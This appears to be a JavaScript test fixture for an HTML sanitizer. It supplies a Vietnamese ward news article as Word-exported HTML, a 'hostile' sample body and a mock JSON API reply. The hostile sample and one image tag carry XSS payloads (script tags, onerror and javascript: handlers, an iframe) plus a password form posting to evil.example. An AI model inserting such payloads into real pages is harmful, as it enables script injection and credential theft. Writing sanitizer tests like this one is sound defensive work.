// Bodies to begin with: one as Word leaves it, one as somebody hostile would write it. Invented text.

export const word = `<p class="MsoNormal" align="center" style="text-align:center"><b><span style="font-size:14.0pt;
font-family:&quot;Times New Roman&quot;,serif;color:black">Phường ra quân dọn vệ sinh bờ kè</span></b><o:p></o:p></p>
<p class="MsoNormal" style="text-align:justify;text-indent:36.0pt"><span style="font-size:14.0pt;font-family:&quot;Times New Roman&quot;,serif">Sáng thứ Bảy, đoàn viên và người dân các khóm cùng nhau dọn vệ sinh bờ kè <i>(nội dung minh họa)</i>.</span><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">&nbsp;</p>
<p class="MsoListParagraph" style="text-indent:-18.0pt;mso-list:l0 level1 lfo1"><!--[if !supportLists]--><span style="font-family:Symbol"><span style="mso-list:Ignore">·<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp; </span></span></span><!--[endif]-->Khóm 1 nhận đoạn từ cầu đến chợ;</p>
<p class="MsoListParagraph" style="text-indent:-18.0pt;mso-list:l0 level1 lfo1"><!--[if !supportLists]--><span style="font-family:Symbol"><span style="mso-list:Ignore">·<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp; </span></span></span><!--[endif]-->Khóm 2 nhận đoạn còn lại.</p>
<p align="center"><img src="{images}bo-ke.svg" width="600" height="360" onerror="alert(1)"></p>
<p align="center"><em>Ảnh: Bờ kè sau buổi dọn vệ sinh. Nguồn: Ngọc Minh</em></p>
<p><strong>Kết quả</strong></p>
<table border="1" cellpadding="0" style="width:100%"><tr><td><b>Khóm</b></td><td><b>Người</b></td></tr><tr><td>1</td><td>40</td></tr><tr><td>2</td><td>35</td></tr></table>
<p>Phường cảm ơn mọi người./.</p>
<p align="right"><b>Ngọc Minh</b></p>`;

export const hostile = `<h2 onclick="alert(1)">Bài có mã độc (minh họa)</h2>
<script>alert('chạy')</script>
<p style="position:fixed;inset:0;background:red">Chữ che cả trang.</p>
<img src="x" onerror="alert(document.domain)">
<a href="javascript:alert(1)">Bấm vào đây</a>
<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">SVG</text></a></svg>
<form action="https://evil.example/"><input type="password" name="mat-khau"><button>Gửi</button></form>
<p>Đoạn văn bình thường vẫn còn nguyên.</p>`;

/** What a ward's own system may answer. */
export const wardJson = JSON.stringify(
  {
    thanhCong: true,
    tongSo: 2,
    duLieu: [
      {
        maBai: 128,
        tieuDe: 'Ra quân dọn vệ sinh bờ kè (nội dung minh họa)',
        tomTat: 'Sáng thứ Bảy, người dân các khóm cùng nhau dọn vệ sinh bờ kè.',
        noiDung:
          '<p>Đoàn viên và người dân chia thành ba nhóm.</p><p>Phường cảm ơn mọi người./.</p>',
        ngayDang: '07/03/2026 08:30',
        tacGia: { hoTen: 'Ngọc Minh (tên ví dụ)', donVi: 'Văn phòng' },
        chuyenMuc: { ten: 'Đô thị' },
        duongDan: 'ra-quan-don-ve-sinh',
        tuKhoa: ['bờ kè', 'môi trường'],
      },
      {
        maBai: 127,
        tieuDe: 'Lịch tiếp công dân (nội dung minh họa)',
        noiDung: '<p>Thứ Năm hằng tuần.</p>',
      },
    ],
  },
  null,
  2,
);
